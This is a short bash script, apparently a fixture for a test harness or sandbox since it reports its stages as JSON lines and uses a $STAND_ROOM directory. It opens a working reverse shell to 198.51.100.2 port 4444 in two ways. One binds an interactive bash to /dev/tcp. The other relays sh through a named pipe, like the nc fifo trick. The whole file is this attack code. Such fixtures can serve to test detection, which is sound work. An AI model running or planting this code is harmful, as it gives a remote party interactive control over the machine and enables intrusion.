#!/bin/bash
# A reverse shell without another program: bash itself connects.
printf '{"act":"ready","pid":%d}\n' $$
read -r _
case $1 in
tcp)
  printf '{"act":"shell","pid":%d}\n' $$
  exec 3>&1
  bash -i <>/dev/tcp/198.51.100.2/4444 >&0 2>&0 || true
  ;;
fifo)
  # As `mkfifo f; nc host port <f | sh >f` does, with bash in the place of nc.
  mkfifo "$STAND_ROOM/f"
  exec 4<>/dev/tcp/198.51.100.2/4444
  printf '{"act":"relay","pid":%d}\n' $$
  cat <&4 | sh -i >"$STAND_ROOM/f" 2>&1 &
  cat "$STAND_ROOM/f" >&4
  ;;
esac
